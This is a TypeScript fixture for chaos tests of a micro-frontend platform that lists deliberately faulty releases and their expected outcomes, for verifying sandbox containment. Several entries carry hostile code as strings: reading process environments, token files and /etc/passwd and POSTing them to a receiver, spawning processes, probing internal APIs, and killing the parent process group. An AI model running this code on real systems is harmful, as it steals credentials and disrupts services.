/**
 * Every way in which a release is broken on purpose, as data: the code in its files, when it takes effect, and the expected outcome.
 * `brokenRelease.ts` makes the release, `injectFault.ts` promotes it and checks the outcome.
 */
import type { ReleaseManifest } from '@tessera/shared-contracts/releases/composition';
import type { Remote } from './stablePages.ts';

/** A URL that contains this string asks a release for its fault; a shell's probes do not. */
export const MARK = 'chaos';

/**
 * The outcome of a broken release in its region.
 * - `refused`: it never became the region's version
 * - `last good`: it did, and the version before it renders its slots
 * - `fallback`: it did, and the shell's own markup is in its slots
 * - `no effect`: it did, and its attempt has failed
 * - `shown`: it did, and its slots are as it rendered them
 */
export type Outcome = 'refused' | 'last good' | 'fallback' | 'no effect' | 'shown';

/** The stage at which a fault first takes effect. `browser`: the server renders the release without problems. */
export type Place = 'publish' | 'load' | 'probe' | 'render' | 'browser';

/** The store's addresses for the code of a release that attacks it. */
export interface Target {
  /** Contains the data folders of all services. */
  readonly dataDir: string;
  readonly registryOrigin: string;
  /** Records whatever a release sends there. */
  readonly receiverOrigin: string;
  /** A file that appears when a release has started a process. */
  readonly markerFile: string;
}

export interface ReleaseFault {
  readonly id: string;
  /** Describes such a release: "A release that …". */
  readonly sentence: string;
  readonly strikes: Place;
  /** Outcome where the region has an earlier version of the remote. */
  readonly expected: Outcome;
  /** Outcome in a region where the release is the only version of the remote. Absent: not tried there. */
  readonly alone?: Outcome;
  /** JavaScript before the server bundle. */
  readonly atLoad?: (target: Target) => string;
  /** JavaScript before each render; `request` is in scope. */
  readonly atRender?: (remote: Remote, target: Target) => string;
  /** JavaScript before a render on a URL that asks for the fault. */
  readonly atMarkedRender?: string;
  /** JavaScript after each render; `request` and `result` are in scope. */
  readonly afterRender?: string;
  /** Code of the shell's log line that must report the fault where nothing else does. */
  readonly logged?: string;
  readonly manifest?: (manifest: ReleaseManifest) => ReleaseManifest;
  /** Changes a script that browsers load. */
  readonly script?: (path: string, text: string, manifest: ReleaseManifest) => string;
  /** Sends a file's bytes with the hash of others. */
  readonly wrongHash?: true;
  /** Response for the release's scripts in a browser; `never`: no response at all. */
  readonly delivery?: { readonly status: number; readonly body: string } | 'never';
}

/** The result of a theft in a release's markup: `got:nothing`, or the stolen data. */
export const LOOT = /<!--got:(.*?)-->/s;

const BROKEN = 'throw new Error("broken on purpose");';
const LOOP = 'for (;;) {}';
/** Stops at 4 GiB, because a machine without a limit must survive it, too. */
const EAT_BUFFERS = 'for (let i = 0; i < 200; i += 1) kept.push(Buffer.alloc(20 * 2 ** 20, 1));';

/** Collects accessible data, puts it into the markup and sends it out. Errors mean that there was nothing to get. */
const steal = (collect: string) => `
  globalThis.got ??= (async () => {
    const got = [];
    const look = async (what, read) => {
      try {
        const found = await read();
        if (found) got.push(what + '=' + String(found).slice(0, 300));
      } catch {}
    };
    ${collect}
    return got.length === 0 ? 'nothing' : got.join(' ').replaceAll('--', '- -');
  })();`;
const SHOW_LOOT = "result.html += '<!--got:' + (await globalThis.got) + '-->';";

/** A simple response where the release's own code returns none. */
const PLAIN_PAGE =
  "{ status: 200, redirect: null, head: request.slot === 'page' ? { title: 'Mine', description: '' } : null, html: '<p>Mine now.</p>', state: null }";
const slotOfAnother = (remote: string) => (remote === 'mf-header-footer' ? 'bag' : 'header');
const routeOfAnother = (remote: string) =>
  remote === 'mf-product'
    ? ({ path: '/partner/:code', probe: '/partner/runclub', status: 'rendered' } as const)
    : { path: '/ring/buy/:region', probe: '/ring/buy/ae' };
const someAssets = ({ assets }: ReleaseManifest) => Object.values(assets)[0] ?? { js: [], css: [] };

export const RELEASE_FAULTS: readonly ReleaseFault[] = [
  {
    id: 'wrong-hash',
    sentence: 'has a file whose bytes do not match its hash',
    strikes: 'publish',
    expected: 'refused',
    wrongHash: true,
  },
  {
    id: 'claims-slot',
    sentence: 'fills a slot of another remote',
    strikes: 'publish',
    expected: 'refused',
    manifest: (manifest) => {
      const slot = slotOfAnother(manifest.remote);
      return {
        ...manifest,
        slots: [...manifest.slots, slot],
        assets: { ...manifest.assets, [slot]: someAssets(manifest) },
      };
    },
    atRender: (remote) => `if (request.slot === '${slotOfAnother(remote)}') return ${PLAIN_PAGE};`,
  },
  {
    id: 'claims-route',
    sentence: 'claims a route of another remote',
    strikes: 'publish',
    expected: 'refused',
    manifest: (manifest) => {
      const route = routeOfAnother(manifest.remote);
      return {
        ...manifest,
        slots: [...new Set([...manifest.slots, 'page' as const])],
        routes: [...manifest.routes, route],
        assets: { ...manifest.assets, [route.path]: someAssets(manifest) },
      };
    },
    atRender: (remote) => `if (request.route.path === '${routeOfAnother(remote).path}') return ${PLAIN_PAGE};`,
  },
  {
    id: 'unknown-event',
    sentence: 'emits an event that does not exist',
    strikes: 'publish',
    expected: 'refused',
    manifest: (manifest) => ({ ...manifest, emits: [...manifest.emits, { name: 'bag.exploded', version: 1 }] }),
  },
  {
    id: 'shared-range',
    sentence: 'wants a shared package that the host cannot provide (`react ^20`)',
    strikes: 'publish',
    expected: 'refused',
    manifest: (manifest) => ({ ...manifest, shared: { ...manifest.shared, react: '^20.0.0' } }),
  },
  {
    id: 'throws-at-load',
    sentence: 'throws as its server bundle is loaded',
    strikes: 'load',
    expected: 'refused',
    atLoad: () => BROKEN,
  },
  {
    id: 'loops-at-load',
    sentence: 'loops for ever as its server bundle is loaded',
    strikes: 'load',
    expected: 'refused',
    atLoad: () => LOOP,
  },
  {
    id: 'exits-at-load',
    sentence: 'calls `process.exit` as its server bundle is loaded',
    strikes: 'load',
    expected: 'refused',
    atLoad: () => 'process.exit(3);',
  },
  {
    id: 'kills-itself-at-load',
    sentence: 'calls `process.kill(process.pid, "SIGKILL")` as its server bundle is loaded',
    strikes: 'load',
    expected: 'refused',
    atLoad: () => "process.kill(process.pid, 'SIGKILL');",
  },
  {
    id: 'kills-its-group-at-load',
    sentence: 'calls `process.kill(0, "SIGKILL")`, which means its whole process group, as its server bundle is loaded',
    strikes: 'load',
    expected: 'refused',
    atLoad: () => "process.kill(0, 'SIGKILL');",
  },
  {
    id: 'kills-its-parent-at-load',
    sentence: 'calls `process.kill(process.ppid, "SIGKILL")` as its server bundle is loaded',
    strikes: 'load',
    expected: 'refused',
    atLoad: () => "process.kill(process.ppid, 'SIGKILL');",
  },
  {
    id: 'loops-in-probe',
    sentence: 'loops for ever in each render, so in the probe too',
    strikes: 'probe',
    expected: 'refused',
    atRender: () => LOOP,
  },
  {
    id: 'throws-on-url',
    sentence: 'throws in the render of some URLs',
    strikes: 'render',
    expected: 'last good',
    alone: 'fallback',
    atMarkedRender: BROKEN,
  },
  {
    id: 'loops-on-url',
    sentence: 'loops for ever in the render of some URLs',
    strikes: 'render',
    expected: 'last good',
    alone: 'fallback',
    atMarkedRender: LOOP,
  },
  {
    id: 'hangs-on-url',
    sentence: 'never answers the render of some URLs',
    strikes: 'render',
    expected: 'last good',
    atMarkedRender: 'return new Promise(() => {});',
  },
  {
    id: 'exits-on-url',
    sentence: 'calls `process.exit` in the render of some URLs',
    strikes: 'render',
    expected: 'last good',
    atMarkedRender: 'process.exit(3);',
  },
  {
    id: 'kills-itself-on-url',
    sentence: 'kills its own process in the render of some URLs',
    strikes: 'render',
    expected: 'last good',
    alone: 'fallback',
    atMarkedRender: "process.kill(process.pid, 'SIGKILL');",
  },
  {
    id: 'memory-arrays',
    sentence: 'fills its heap with arrays in the render of some URLs',
    strikes: 'render',
    expected: 'last good',
    atMarkedRender: 'const kept = []; for (;;) kept.push(new Array(1e6).fill(Math.random()));',
  },
  {
    id: 'memory-buffers',
    sentence: 'fills memory outside of its heap with buffers in the render of some URLs',
    strikes: 'render',
    expected: 'last good',
    atMarkedRender: `const kept = []; ${EAT_BUFFERS} ${LOOP}`,
  },
  {
    id: 'memory-between-renders',
    sentence: 'answers some URLs and fills memory with buffers afterwards, while it draws nothing',
    strikes: 'render',
    expected: 'no effect',
    atMarkedRender: `const kept = []; globalThis.eating ??= setInterval(() => { if (kept.length < 200) kept.push(Buffer.alloc(20 * 2 ** 20, 1)); }, 20);`,
    logged: 'remote.process.memory',
  },
  {
    id: 'huge-html',
    sentence: 'answers some URLs with 64 MiB of html',
    strikes: 'render',
    expected: 'last good',
    afterRender: `if (asked) result.html = 'x'.repeat(64 * 2 ** 20);`,
  },
  {
    id: 'huge-state',
    sentence: 'answers some URLs with 64 MiB of state',
    strikes: 'render',
    expected: 'last good',
    afterRender: `if (asked) result.state = { much: 'x'.repeat(64 * 2 ** 20) };`,
  },
  {
    id: 'huge-error',
    sentence: 'throws an error of 64 MiB in the render of some URLs',
    strikes: 'render',
    expected: 'last good',
    atMarkedRender: "throw new Error('x'.repeat(64 * 2 ** 20));",
  },
  {
    id: 'huge-output',
    sentence: 'writes 64 MiB to its standard output in each render of some URLs',
    strikes: 'render',
    expected: 'no effect',
    atMarkedRender: "for (let i = 0; i < 64; i += 1) process.stdout.write('x'.repeat(2 ** 20) + '\\n');",
  },
  {
    id: 'steals-secrets',
    sentence: "reads the environment of its process and of the shell's, and the data folders, and sends them away",
    strikes: 'render',
    expected: 'no effect',
    atRender: (_remote, { dataDir, receiverOrigin }) =>
      `${steal(`
      const files = () => require('node:fs');
      const secret = (text) => (/TOKEN|DATA_DIR|HOME|PATH=/.test(text) ? text : null);
      await look('env', () => secret(Object.entries(process.env).map((pair) => pair.join('=')).join(' ')));
      for (const pid of ['self', process.pid, process.ppid, 1]) {
        await look(pid + '/environ', () => secret(files().readFileSync('/proc/' + pid + '/environ', 'utf8')));
        await look(pid + '/cmdline', () => pid !== 'self' && pid !== process.pid && files().readFileSync('/proc/' + pid + '/cmdline', 'utf8'));
      }
      for (const name of ['registry/operator-token', 'registry/shell-token', 'store-api/orders-token', 'shell/active.json', '../etc/passwd'])
        await look(name, () => files().readFileSync(${JSON.stringify(dataDir)} + '/' + name, 'utf8'));
      await look('list', () => files().readdirSync(${JSON.stringify(dataDir)}).join());
      await look('passwd', () => files().readFileSync('/etc/passwd', 'utf8'));
      await look('write', () => (files().writeFileSync(${JSON.stringify(dataDir)} + '/written', 'x'), 'written'));
      if (got.length > 0) await fetch(${JSON.stringify(receiverOrigin)}, { method: 'POST', body: got.join(' ') }).catch(() => {});`)}`,
    afterRender: SHOW_LOOT,
  },
  {
    id: 'starts-processes',
    sentence: 'starts a process and a worker',
    strikes: 'render',
    expected: 'no effect',
    atRender: (_remote, { markerFile }) =>
      steal(`
      const marker = ${JSON.stringify(markerFile)};
      const processes = () => require('node:child_process');
      await look('spawn', () => processes().spawnSync('touch', [marker]).status === 0);
      await look('exec', () => processes().execFileSync(process.execPath, ['-e', 'console.log(1)']));
      await look('fork', () => processes().fork(marker).pid);
      await look('worker', () => new Promise((resolve, reject) => {
        const { Worker } = require('node:worker_threads');
        const worker = new Worker('require("node:fs").writeFileSync(' + JSON.stringify(marker) + ', "x")', { eval: true });
        worker.on('online', () => resolve('online'));
        worker.on('error', reject);
      }));`),
    afterRender: SHOW_LOOT,
  },
  {
    id: 'calls-network',
    sentence: 'calls the registry and an address of its own',
    strikes: 'render',
    expected: 'no effect',
    atRender: (_remote, { registryOrigin, receiverOrigin }) =>
      steal(`
      const registry = ${JSON.stringify(registryOrigin)};
      const soon = () => AbortSignal.timeout(500);
      for (const path of ['/api/status', '/api/compositions', '/api/audit'])
        await look(path, async () => {
          const response = await fetch(registry + path, { signal: soon() });
          return response.ok ? response.text() : null;
        });
      await look('fetch', async () => (await fetch(${JSON.stringify(receiverOrigin)}, { signal: soon() })).status);
      await look('http', () => new Promise((resolve, reject) => {
        require('node:http').get(${JSON.stringify(receiverOrigin)}, ({ statusCode }) => resolve(statusCode)).on('error', reject);
      }));
      await look('net', () => new Promise((resolve, reject) => {
        const { port } = new URL(${JSON.stringify(receiverOrigin)});
        require('node:net').connect(Number(port), '127.0.0.1', () => resolve('connected')).on('error', reject);
      }));`),
    afterRender: SHOW_LOOT,
  },
  {
    id: 'throws-in-browser',
    sentence: 'throws as its entry is loaded in a browser',
    strikes: 'browser',
    expected: 'last good',
    alone: 'fallback',
    script: (path, text, { entry }) => (path === entry ? `${BROKEN}\n${text}` : text),
  },
  {
    id: 'effect-throws',
    sentence: 'has effects that throw in a browser',
    strikes: 'browser',
    expected: 'last good',
    alone: 'fallback',
    script: (_path, text) => text.replaceAll('.useEffect)(()=>{', `.useEffect)(()=>{${BROKEN}`),
  },
  {
    id: 'script-500',
    sentence: 'has scripts that are answered with 500',
    strikes: 'browser',
    expected: 'last good',
    delivery: { status: 500, body: 'no' },
  },
  {
    id: 'script-tampered',
    sentence: 'has scripts that were changed on their way to the browser',
    strikes: 'browser',
    expected: 'last good',
    delivery: { status: 200, body: 'window.tampered = true; export {};' },
  },
  {
    id: 'script-never-comes',
    sentence: 'has scripts that never come',
    strikes: 'browser',
    // The last good release's scripts would take the same path: a slot has one deadline for all of its releases.
    expected: 'fallback',
    delivery: 'never',
  },
];
